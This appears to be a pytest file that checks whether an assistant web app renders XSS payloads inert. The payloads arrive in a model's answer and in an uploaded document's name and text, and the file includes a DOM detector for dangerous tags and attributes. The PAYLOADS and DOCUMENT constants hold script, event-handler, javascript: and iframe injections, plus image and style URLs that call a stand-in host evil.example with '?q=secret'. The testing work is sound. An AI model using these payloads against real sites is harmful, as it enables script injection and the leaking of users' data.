"""XSS in a real headless Chromium: the model's answer (from a scripted OpenAI-compatible server)
and an uploaded document (its name and its text) carry script, event-handler, javascript: and
external-image payloads. Nothing may run, nothing may load from another host, and the payload
text is shown inert (escaped or removed). Plus the same for the handlers' Markdown, without a
browser."""

import contextlib
import re
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlparse

import pytest

from assistant.services.retrieval import Passage
from assistant.settings import get_settings
from assistant.ui import handlers as h
from tests.conftest import CHROMIUM, CHROMIUM_ARGS, indexed_home
from tests.support.scripted_openai_server import Script, ScriptedOpenAIServer
from tests.test_browser import Server, open_app, textarea

EVIL = "evil.example"
PAYLOADS = [
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=1">',
    f'<img src="http://{EVIL}/img.png?q=secret">',
    f"![x](http://{EVIL}/?q=secret)",
    "[click](javascript:window.__xss=1)",
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<svg onload="window.__xss=1"><circle r="5"></circle></svg>',
    '<details open ontoggle="window.__xss=1">details</details>',
    '<x-card onmouseover="window.__xss=1" onclick="alert(1)">custom tag</x-card>',
    f'<div style="background-image:url(http://{EVIL}/bg.png)">styled</div>',
    '<a href="javascript:window.__xss=1">html link</a>',
]
REPLY = (
    "Here is my advice on the zephyrine group [1].\n\n"
    + "\n\n".join(PAYLOADS)
    + "\n\nEnd of advice."
)
DOCUMENT = (
    "# Zephyrine notes <img src=x onerror=window.__xss=1>\n\n"
    "The zephyrine platform group <script>window.__xss=1</script> ships every week. "
    f'<iframe src="javascript:window.__xss=1"></iframe> ![doc](http://{EVIL}/doc.png) '
    '<b onmouseover="window.__xss=1">bold</b> [doc link](javascript:window.__xss=1)\n'
    f'<div style="background-image:url(http://{EVIL}/doc-bg.png)">styled</div>\n'
)
# browsers read backslashes as slashes: \\evil.example\a.png is //evil.example/a.png
DOCUMENT_NAME = r'<img src=x onerror="window.__xss=1"><img src=\\evil.example\a.png>zephyrine.txt'
DANGEROUS = """(root) => {
  const found = [];
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'x-card'].includes(tag))
      found.push('<' + tag + '>');
    for (const attr of el.attributes) {
      const value = attr.value.trim().toLowerCase();
      if (attr.name.startsWith('on')) found.push(tag + ' ' + attr.name);
      if (value.startsWith('javascript:')) found.push(tag + ' ' + attr.name + '=javascript:');
    }
    const src = tag === 'img' ? el.getAttribute('src') : null;
    if (src !== null) {
      const url = new URL(src, location.href);
      if (url.host !== location.host && !['data:', 'blob:'].includes(url.protocol))
        found.push('external img ' + src);
    }
  }
  return found;
}"""


@pytest.fixture(scope="module")
def scripted():
    with ScriptedOpenAIServer(Script(reply=REPLY)) as server:
        yield server


@pytest.fixture(scope="module")
def app(scripted, tmp_path_factory, indexed_template):
    if not Path(CHROMIUM).exists():
        pytest.fail("Chromium is missing: `make test` installs Debian's chromium package")
    srv = Server(
        indexed_home(indexed_template, tmp_path_factory.mktemp("xss-home")),
        env={"MENTORPREP_BACKEND": "openai", "OPENAI_BASE_URL": scripted.url},
    )
    srv.start()
    yield srv
    srv.stop()


@dataclass
class Visit:
    """A browser session on the app, watched: dialogs it opened, requests to other hosts."""

    page: object
    dialogs: list[str] = field(default_factory=list)
    external: list[str] = field(default_factory=list)  # requests to any other host (blocked)

    def inert(self, selector: str) -> list[str]:
        """What ran, loaded or could run: empty when the region is inert."""
        found = self.page.locator(selector).evaluate(DANGEROUS)
        if self.page.evaluate("typeof window.__xss") != "undefined":
            found.append("window.__xss was set")
        found += [f"dialog: {d}" for d in self.dialogs]
        found += [f"request: {url}" for url in self.external if EVIL in url]
        return found


@pytest.fixture(scope="module")
def visit(app, tmp_path_factory):
    """Upload the document (Documents tab), then ask the question (Ask tab), once."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1400, "height": 1000})
        visit = Visit(context.new_page())

        def on_dialog(dialog) -> None:
            visit.dialogs.append(dialog.message)
            dialog.dismiss()

        def block(route) -> None:
            visit.external.append(route.request.url)
            route.abort()

        context.on("dialog", on_dialog)
        context.route(lambda url: urlparse(url).hostname not in ("127.0.0.1", "localhost"), block)
        page = visit.page
        open_app(page, app.url)

        page.get_by_role("tab", name="Documents & prep pack").click()
        doc = tmp_path_factory.mktemp("upload") / DOCUMENT_NAME
        doc.write_text(DOCUMENT, encoding="utf-8")
        page.locator("input[type=file]").first.set_input_files(str(doc))
        page.get_by_text(re.compile(r"passages added|❌")).first.wait_for(timeout=120_000)

        page.get_by_role("tab", name="Ask").click()
        textarea(page, "ask-input").fill("What does the zephyrine platform group do? <b>hi</b>")
        page.locator("#ask-send").click()
        chat = page.locator("#ask-chat")
        chat.get_by_text("Here is my advice").wait_for(timeout=120_000)
        # the answer has finished (its first sentence may wait on the leak watch's model);
        # if it never does, test_the_answer_after_the_payloads_is_kept reports it
        with contextlib.suppress(PlaywrightTimeout):
            chat.get_by_text("End of advice").wait_for(timeout=120_000)
        page.wait_for_timeout(1000)
        chat.hover()
        page.wait_for_timeout(500)
        yield visit
        context.close()
        browser.close()


# the browser tests start the web app and Chromium (no model: the scripted server answers)


@pytest.mark.slow
def test_an_uploaded_document_name_and_text_stay_inert(visit):
    page = visit.page
    status = page.get_by_text(re.compile(r"passages added|❌")).first
    assert "passages added" in status.inner_text() and "zephyrine.txt" in status.inner_text()
    sources = page.locator("#sources")
    # the document was cited, its payloads shown as the text they are
    assert "Zephyrine notes <img src=x onerror=window.__xss=1>" in sources.inner_text()
    assert visit.inert("#sources") == []
    assert visit.inert("gradio-app") == []  # the upload status and everything else


@pytest.mark.slow
def test_payloads_in_the_answer_do_not_run_or_load(visit, scripted):
    assert len(scripted.completion_requests) == 1
    assert "Here is my advice" in visit.page.locator("#ask-chat").inner_text()
    assert visit.inert("#ask-chat") == []
    assert visit.inert("gradio-app") == []


@pytest.mark.slow
def test_the_answer_after_the_payloads_is_kept(visit):
    assert "End of advice" in visit.page.locator("#ask-chat").inner_text()


# the handlers' Markdown, without a browser --------------------------------------------------


def test_sources_show_a_document_as_text():
    passage = Passage(
        text=DOCUMENT,
        source="notes.txt",
        title="Notes <img src=x onerror=alert(1)>",
        section="<script>alert(1)</script>",
        note_id="doc:notes.txt",
        score=1.0,
    )
    shown = h.format_sources([passage])
    for tag in ("<img", "<script", "<iframe", "<b ", "<div"):
        assert tag not in shown
    assert f"![doc](http://{EVIL}" not in shown  # an image would load by itself
    assert "&lt;img src=x onerror=alert(1)>" in shown and "&lt;script>" in shown  # as text


def test_upload_status_shows_a_file_name_as_text(local_kb, tmp_path):
    deps = h.Deps(lambda: None, lambda: local_kb, lambda: None, get_settings())
    doc = tmp_path / '<img src=x onerror="alert(1)">bio.txt'
    doc.write_text("Priya Raman leads three platform teams.", encoding="utf-8")
    user = "browser:xss-upload-name"
    try:
        status = h.upload_documents(deps, user, [str(doc)])
    finally:
        local_kb.delete_user_data(user)
    assert "passages added" in status and "<img" not in status
    assert '&lt;img src=x onerror="alert(1)">bio.txt' in status
